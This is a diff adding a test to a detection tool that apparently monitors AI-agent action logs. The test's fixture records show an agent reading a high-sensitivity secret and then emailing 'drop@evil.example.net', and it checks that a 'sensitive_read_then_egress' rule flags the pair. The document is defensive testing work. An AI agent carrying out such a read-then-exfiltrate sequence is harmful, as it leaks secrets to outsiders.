@@ -139,3 +139,55 @@ def test_readme_starts_with_the_two_commands():
     readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
     commands = [line.strip() for line in readme.splitlines() if line.strip().startswith("make ")]
     assert commands[:2] == ["make demo", "make test"]
+
+
+def test_detect_then_findings_in_every_format(tmp_path: Path, capsys):
+    import json
+
+    records = [
+        *NATIVE,
+        {
+            "record_type": "action",
+            "event_id": "r",
+            "ts": "2026-11-01T09:02:00Z",
+            "agent_id": "agent-3",
+            "task_id": "task-9",
+            "tool": "get_secret",
+            "action_class": "read",
+            "sensitivity": "high",
+        },
+        {
+            "record_type": "action",
+            "event_id": "x",
+            "ts": "2026-11-01T09:03:00Z",
+            "agent_id": "agent-3",
+            "task_id": "task-9",
+            "tool": "send_email",
+            "arguments": {"to": "drop@evil.example.net"},
+        },
+    ]
+    db = str(tmp_path / "w.duckdb")
+    main(["ingest", str(write_lines(tmp_path / "in" / "n.jsonl", records)), "--db", db, "-q"])
+    capsys.readouterr()
+    assert main(["detect", "--db", db]) == EXIT_OK
+    out = capsys.readouterr().out
+    assert re.search(r"sensitive_read_then_egress\s+high\s+1\s+1\s+0", out)
+    assert "native:r native:x" in out  # the top findings show their evidence
+    assert (
+        main(["findings", "--db", db, "--format", "json", "--rule", "sensitive_read_then_egress"])
+        == EXIT_OK
+    )
+    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert [(r["rule_id"], r["task_id"], r["evidence_event_ids"]) for r in rows] == [
+        ("sensitive_read_then_egress", "task-9", ["native:r", "native:x"])
+    ]
+    assert (
+        main(["findings", "--db", db, "--format", "ocsf", "--rule", "sensitive_read_then_egress"])
+        == EXIT_OK
+    )
+    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert [(e["class_uid"], e["finding_info"]["uid"]) for e in events] == [
+        (2004, rows[0]["finding_id"])
+    ]
+    assert main(["findings", "--db", db, "--status", "resolved"]) == EXIT_OK
+    assert "0 finding(s)" in capsys.readouterr().out
